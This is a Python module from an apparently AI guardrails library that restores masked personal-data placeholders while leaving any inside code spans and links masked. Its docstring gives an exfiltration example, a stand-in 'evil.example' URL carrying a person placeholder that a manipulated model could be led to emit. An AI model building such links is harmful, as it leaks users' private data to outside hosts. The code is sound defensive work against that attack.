"""Placeholders turned back into values: whole tokens only, never inside links or code.

A link is a way out for stolen data (a model could be talked into ``https://evil.example/?q=[[PERSON:…]]``), so what
stands in one stays a placeholder.
"""

from __future__ import annotations

import re
from collections.abc import Collection

from guardrails.types import Vault
from guardrails.vault import PLACEHOLDER

# Fenced code, inline code, the target of a Markdown link, a bare address. Each alternative is linear.
CLOSED = re.compile(r"```.*?(?:```|\Z)|`[^`\n]*`|\]\([^)\n]*\)|\b[a-z][a-z0-9+.-]{1,20}://\S*|\bwww\.\S*", re.S | re.I)


def restore(text: str, vault: Vault, entities: Collection[str] | None = None) -> str:
    """The text with the placeholders of this vault opened, those of other kinds than ``entities`` left."""
    parts: list[str] = []
    at = 0
    for closed in CLOSED.finditer(text):
        parts += [_open(text[at : closed.start()], vault, entities), closed.group()]
        at = closed.end()
    return "".join(parts) + _open(text[at:], vault, entities)


def open_all(text: str, vault: Vault) -> str:
    """The text with every placeholder of this vault opened, wherever it stands: for the owner of both only."""
    return _open(text, vault, None)


def _open(text: str, vault: Vault, entities: Collection[str] | None) -> str:
    def value(match: re.Match[str]) -> str:
        if entities is not None and match.group(1) not in entities:
            return match.group()
        found = vault.open(match.group())
        return match.group() if found is None else found

    return PLACEHOLDER.sub(value, text)
